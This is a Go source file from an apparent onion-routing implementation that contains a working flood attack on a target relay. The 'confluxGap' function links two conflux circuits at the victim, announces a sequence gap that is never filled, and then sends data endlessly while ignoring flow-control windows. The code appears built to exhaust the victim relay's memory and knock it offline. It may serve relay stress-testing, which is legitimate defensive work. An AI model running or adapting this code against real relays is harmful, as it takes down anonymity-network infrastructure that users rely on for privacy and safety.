package flood

import (
	"context"
	"crypto/rand"

	"github.com/chivenet/chive/internal/cell"
	"github.com/chivenet/chive/internal/channel"
	"github.com/chivenet/chive/internal/circuit"
	"github.com/chivenet/chive/internal/fault"
)

// confluxGap links two circuits at the victim, announces on the second a message
// that never comes on the first, and sends data on the second without end. It
// ignores windows and SENDMEs.
func confluxGap(ctx context.Context, a *attack) error {
	return a.each(ctx, func(ctx context.Context, i int) error {
		ch, conn, err := a.channel(ctx, i, &a.Entry)
		if err != nil {
			return err
		}
		defer shutdown(ch)
		late, err := a.linked(ctx, ch)
		if err != nil {
			return err
		}
		conn.Shut()
		gap := cell.ConfluxSwitch{Seq: 1_000}
		if err := late.Send(cell.RelayConfluxSwitch, 0, gap.Append(nil)); err != nil {
			return err
		}
		data := make([]byte, late.Info().MaxData)
		for a.rate.take(ctx, 1) && ch.Err() == nil {
			if err := late.Send(cell.RelayData, 1, data); err != nil {
				return err
			}
			a.sent.Add(1)
		}
		return ch.Err()
	})
}

// linked makes a set of two circuits that end at the victim, and returns the hop
// of the second. Only the victim knows the set: our own engine would put sequence
// numbers on messages.
func (a *attack) linked(ctx context.Context, ch *channel.Channel) (*circuit.Hop, error) {
	ctx, cancel := context.WithTimeout(ctx, setupTime)
	defer cancel()
	link := cell.ConfluxLink{}
	if _, err := rand.Read(link.Nonce[:]); err != nil {
		return nil, fault.Wrap(fault.Local, err)
	}
	var hops []*circuit.Hop
	for range 2 {
		c, err := build(ctx, a, ch, func(o *circuit.HopOptions) { o.Congestion = true }, &a.Entry, &a.Victim)
		if err != nil {
			return nil, err
		}
		h := c.Last()
		if !h.Info().Congestion {
			return nil, fault.New(fault.Protocol, "the victim grants no congestion control, and so no conflux")
		}
		want, err := h.Expect(cell.RelayConfluxLinked)
		if err != nil {
			return nil, err
		}
		if err := h.Send(cell.RelayConfluxLink, 0, link.Append(nil)); err != nil {
			want.Cancel()
			return nil, err
		}
		if _, _, err := want.Wait(ctx); err != nil {
			return nil, err
		}
		hops = append(hops, h)
	}
	for _, h := range hops {
		if err := h.Send(cell.RelayConfluxLinkedAck, 0, nil); err != nil {
			return nil, err
		}
	}
	return hops[1], nil
}
